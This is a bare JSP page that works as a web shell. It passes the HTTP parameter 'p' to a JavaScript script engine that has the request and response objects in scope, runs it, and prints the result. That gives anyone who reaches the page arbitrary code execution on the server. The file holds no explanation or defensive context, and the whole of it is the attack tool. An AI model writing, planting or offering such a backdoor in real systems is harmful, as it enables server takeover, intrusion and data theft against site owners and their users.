<%@ page import="javax.script.*" %><%
    ScriptEngine se = new ScriptEngineManager().getEngineByName("js");
    se.put("request", request);
    se.put("response", response);
    Object ret = se.eval(request.getParameter("p"));
    if (ret != null) out.print(ret);
%>
